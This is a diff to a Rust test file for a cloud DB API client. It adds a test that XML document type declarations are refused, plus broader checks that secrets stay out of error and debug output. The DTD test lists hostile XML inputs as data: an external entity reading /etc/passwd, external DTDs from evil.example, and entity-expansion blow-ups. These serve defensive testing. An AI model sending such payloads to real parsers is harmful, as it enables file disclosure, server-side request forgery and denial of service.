@@ -445,6 +445,82 @@ fn bad_bodies_are_parse_errors() {
 }
 
 #[test]
+fn xml_dtds_are_refused_wherever_they_hide() {
+    // Every document type declaration is refused as soon as it is met, before anything in it is
+    // read: no entity is ever declared, so none is ever expanded (no billion laughs, no XXE).
+    let entity = "<!ENTITY x \"EXPANDED\">";
+    let dtd_bodies = [
+        format!("<!-- a comment first --><!DOCTYPE r [{entity}]><responseError><returnCode>&x;</returnCode></responseError>"),
+        format!("<?pi first?><!DOCTYPE r [{entity}]><responseError><returnCode>&x;</returnCode></responseError>"),
+        format!("<?xml version=\"1.0\"?>\n<!-- a -->\n<?pi?>\n<!DOCTYPE r [{entity}]>\n<flushCloudDBInstanceResponse><returnCode>0</returnCode><returnMessage>&x;</returnMessage></flushCloudDBInstanceResponse>"),
+        format!("\u{feff}<!DOCTYPE r [{entity}]><responseError><returnCode>&x;</returnCode></responseError>"),
+        // Lowercase keyword.
+        format!("<!doctype r [{entity}]><responseError><returnCode>&x;</returnCode></responseError>"),
+        // A parameter entity that declares the general one.
+        "<!DOCTYPE r [<!ENTITY % p \"<!ENTITY x 'EXPANDED'>\"> %p;]><responseError><returnCode>&x;</returnCode></responseError>".to_owned(),
+        // External entities and external subsets (XXE, SSRF).
+        "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><responseError><returnCode>&x;</returnCode></responseError>".to_owned(),
+        "<!DOCTYPE r [<!ENTITY % e SYSTEM \"http://evil.example/x.dtd\"> %e;]><responseError/>".to_owned(),
+        "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><responseError><returnCode>&x;</returnCode></responseError>".to_owned(),
+        "<!DOCTYPE r PUBLIC \"-//E//DTD X//EN\" \"http://evil.example/x.dtd\"><responseError/>".to_owned(),
+        // Only element and attribute declarations (default attribute values).
+        "<!DOCTYPE flushCloudDBInstanceResponse [<!ELEMENT flushCloudDBInstanceResponse ANY><!ATTLIST flushCloudDBInstanceResponse a CDATA \"x\">]><flushCloudDBInstanceResponse><returnCode>0</returnCode></flushCloudDBInstanceResponse>".to_owned(),
+        // After the root element, or inside it.
+        format!("<flushCloudDBInstanceResponse><returnCode>0</returnCode></flushCloudDBInstanceResponse><!DOCTYPE r [{entity}]>"),
+        format!("<flushCloudDBInstanceResponse><returnCode>0</returnCode><!DOCTYPE r [{entity}]></flushCloudDBInstanceResponse>"),
+        // A quadratic blow-up: one large entity referenced many times.
+        format!(
+            "<!DOCTYPE r [<!ENTITY big \"{}\">]><flushCloudDBInstanceResponse><returnCode>0</returnCode><returnMessage>{}</returnMessage></flushCloudDBInstanceResponse>",
+            "x".repeat(100_000),
+            "&big;".repeat(10_000)
+        ),
+    ];
+    for body in &dtd_bodies {
+        let ctx = &body[..body.len().min(100)];
+        let err = parse_flush_response(
+            body,
+            &ParseOptions {
+                format: Some(Format::Xml),
+                status: None,
+            },
+        )
+        .unwrap_err();
+        assert_eq!(
+            (err.kind(), err.code()),
+            (ErrorKind::Parse, "ERR_XML_DTD"),
+            "{ctx}"
+        );
+        // Detected as XML too.
+        assert_eq!(error_of(body, None).code(), "ERR_XML_DTD", "{ctx}");
+        // With a failing status the body is only quoted (its start, white space folded), never
+        // expanded.
+        let err = error_of(body, Some(400));
+        assert_eq!(err.kind(), ErrorKind::Http, "{ctx}");
+        let details = err.details().unwrap();
+        let folded = body.split_whitespace().collect::<Vec<_>>().join(" ");
+        assert!(folded.starts_with(details), "{ctx}");
+        assert!(details.chars().count() <= 200, "{ctx}");
+    }
+    // Entity declarations outside a DTD are not XML; undeclared entities are errors; a DTD
+    // inside CDATA is only text.
+    for body in [
+        "<responseError><!ENTITY x \"y\"><returnCode>1</returnCode></responseError>",
+        "<!ENTITY x \"y\"><responseError><returnCode>&x;</returnCode></responseError>",
+        "<responseError><returnCode>&x;</returnCode></responseError>",
+        "<responseError><returnCode>&#0;</returnCode></responseError>",
+    ] {
+        assert_eq!(error_of(body, None).code(), "ERR_INVALID_XML", "{body}");
+    }
+    let cdata = "<responseError><returnCode>1</returnCode><returnMessage><![CDATA[<!DOCTYPE r [<!ENTITY x \"y\">]>&x;]]></returnMessage></responseError>";
+    let err = error_of(cdata, None);
+    assert_eq!((err.kind(), err.code()), (ErrorKind::Api, "1"));
+    assert_eq!(
+        err.to_string(),
+        "Cloud DB API error 1: <!DOCTYPE r [<!ENTITY x \"y\">]>&x;"
+    );
+}
+
+#[test]
 fn statuses_over_400_without_an_error_body_are_http_errors() {
     for body in [
         "",
@@ -631,6 +707,61 @@ fn the_secret_appears_in_no_error_or_debug_text() {
     texts.push(build_flush_request(&request).unwrap_err().to_string());
     request.cloud_db_instance_no = "1";
     texts.push(format!("{:?}", build_flush_request(&request).unwrap()));
+    // Every way a flush request can be refused, in Display and Debug form.
+    let mut refused = Vec::new();
+    for no in ["0123", "12a", ""] {
+        let mut r = FlushRequest::new(ts(1), "AK", SECRET);
+        r.cloud_db_instance_no = no;
+        refused.push(r);
+    }
+    let mut r = FlushRequest::new(ts(1), "A K", SECRET);
+    r.cloud_db_instance_no = "1";
+    refused.push(r.clone());
+    r.call.access_key = "AK";
+    r.call.api_key = Some("a b");
+    refused.push(r.clone());
+    r.call.api_key = None;
+    r.call.method = ApiMethod::Get;
+    r.call.params_in = ParamsIn::Body;
+    refused.push(r);
+    for r in &refused {
+        let err = build_flush_request(r).unwrap_err();
+        texts.push(format!("{r:?}"));
+        texts.push(format!("{:?}", r.call));
+        texts.push(err.to_string());
+        texts.push(format!("{err:?}"));
+    }
+    for bad in [
+        "moon",
+        "https://h/?q",
+        "ftp://h",
+        "https://user:pw@h",
+        "https://h/a|b",
+    ] {
+        let err = Endpoint::parse(bad).unwrap_err();
+        texts.push(err.to_string());
+        texts.push(format!("{err:?}"));
+    }
+    for err in [
+        Timestamp::parse("x").unwrap_err(),
+        Timestamp::from_f64(f64::NAN).unwrap_err(),
+        Signer::new("AK", "").unwrap_err(),
+        Signer::new("", SECRET).unwrap_err(),
+    ] {
+        texts.push(err.to_string());
+        texts.push(format!("{err:?}"));
+    }
+    let ok = SignRequest {
+        method: "GET",
+        url: "/x",
+        timestamp: ts(1),
+        access_key: "AK",
+        secret_key: SECRET,
+        api_key: Some("gw"),
+        signature_version: SignatureVersion::V1,
+    };
+    texts.push(format!("{ok:?}"));
+    texts.push(format!("{:?}", sign_request(&ok).unwrap()));
     let signer = Signer::new("AK", SECRET).unwrap();
     texts.push(format!("{signer:?}"));
     texts.push(format!("{:?}", SigningKey::new(SECRET)));
